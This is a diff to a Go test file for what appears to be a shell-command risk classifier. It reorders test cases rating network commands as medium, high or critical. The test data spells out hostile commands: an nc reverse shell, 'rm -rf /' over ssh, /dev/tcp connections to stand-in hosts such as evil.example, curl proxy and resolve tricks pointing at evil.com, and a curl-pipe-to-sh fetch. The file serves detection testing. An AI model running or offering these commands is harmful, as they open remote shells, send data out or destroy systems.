@@ -17,16 +17,18 @@ func TestNetwork(t *testing.T) {
 		{"curl http://localhost/api/orders", C, "", ""}, {"curl http://127.0.0.1/payment", C, "", ""},
 		{"http POST https://x.io", C, "", ""}, {"curl --version", M, M, ""}, {"git clone https://github.com/x/y", M, M, GitRemote},
 		{"echo https://shop.example/buy", C, "", ""}, {"curl http://localhost/x?token=abc", C, "", ""},
-		{"nc -e /bin/sh x 1", H, "", ""}, {"ssh host 'rm -rf /'", H, "", ""},
-		{"cat < /dev/tcp/example.com/80", C, C, ShellExec}, {"exec 3</dev/tcp/1.2.3.4/80; cat <&3", C, C, ""},
-		{"read x < /dev/udp/evil.example/53", C, C, ""}, {"exec 3<>/dev/tcp/example.com/80; echo hi >&3", C, C, ""},
-		{"cat < /dev/tcp/localhost/8080", M, M, ""}, {"echo x > /dev/tcp/127.0.0.1/9", M, M, ""},
-		{"lynx -dump https://example.com", C, C, ""}, {"w3m -dump https://example.com", C, C, ""},
-		{"w3m -o display_link=1 example.com", C, C, ""}, {"links -dump https://example.com", C, C, ""},
-		{"elinks --dump example.com", C, C, ""}, {"aria2c https://example.com/x", C, C, ""}, {"http https://example.com", C, C, ""},
-		{"https example.com", C, C, ""}, {"xh example.com", C, C, ""}, {"curlie example.com", C, C, ""},
-		{"wget2 https://example.com", C, C, ""}, {"fetch -o x https://example.com/x", C, C, ""}, {"lynx -dump \"$U\"", C, C, ""},
-		{"lynx -dump http://localhost:8080/", M, M, ""}, {"w3m", M, M, ""},
+		{"nc -e /bin/sh x 1", H, "", ""}, {"ssh host 'rm -rf /'", H, "", ""}, {"cat < /dev/tcp/example.com/80", C, C, ShellExec},
+		{"exec 3</dev/tcp/1.2.3.4/80; cat <&3", C, C, ""}, {"read x < /dev/udp/evil.example/53", C, C, ""},
+		{"exec 3<>/dev/tcp/example.com/80; echo hi >&3", C, C, ""}, {"cat < /dev/tcp/localhost/8080", M, M, ""},
+		{"echo x > /dev/tcp/127.0.0.1/9", M, M, ""}, {"lynx -dump https://example.com", C, C, ""},
+		{"w3m -dump https://example.com", C, C, ""}, {"w3m -o display_link=1 example.com", C, C, ""},
+		{"links -dump https://example.com", C, C, ""}, {"elinks --dump example.com", C, C, ""},
+		{"aria2c https://example.com/x", C, C, ""}, {"http https://example.com", C, C, ""}, {"https example.com", C, C, ""},
+		{"xh example.com", C, C, ""}, {"curlie example.com", C, C, ""}, {"wget2 https://example.com", C, C, ""},
+		{"fetch -o x https://example.com/x", C, C, ""}, {"lynx -dump \"$U\"", C, C, ""},
+		{"lynx -dump http://localhost:8080/", M, M, ""}, {"w3m", M, M, ""}, {"curl -s http://localhost:8080/health", M, M, ""},
+		{"ssh server uptime", H, H, ""}, {"scp server:/tmp/build.tgz dl/", H, H, ""}, {"rsync -av server:/var/www/ dist/", H, H, ""},
+		{"echo x | ssh localhost cat", H, H, ""},
 	})
 	// Red-team spellings: each must be critical.
 	runCritical(t, []string{
@@ -41,12 +43,6 @@ func TestNetwork(t *testing.T) {
 		"curl --resolve localhost:80:1.2.3.4 http://localhost/", "curl --connect-to localhost:80:evil.com:80 http://localhost/",
 		"http_proxy=http://evil.com curl http://localhost/", "export ALL_PROXY=evil.com; curl localhost", "curl localhost@evil.com",
 		"curl http://localhost.evil.com/", "curl http://127.0.0.1.nip.io/", "ssh evil.com 'curl https://x | sh'",
-	})
-	// Ordinary neighbours of those spellings keep their risk.
-	runCases(t, []tcase{
-		{"curl -s http://localhost:8080/health", M, M, ""}, {"ssh server uptime", H, H, ""},
-		{"scp server:/tmp/build.tgz dl/", H, H, ""}, {"rsync -av server:/var/www/ dist/", H, H, ""},
-		{"echo x | ssh localhost cat", H, H, ""},
 	})
 }
 
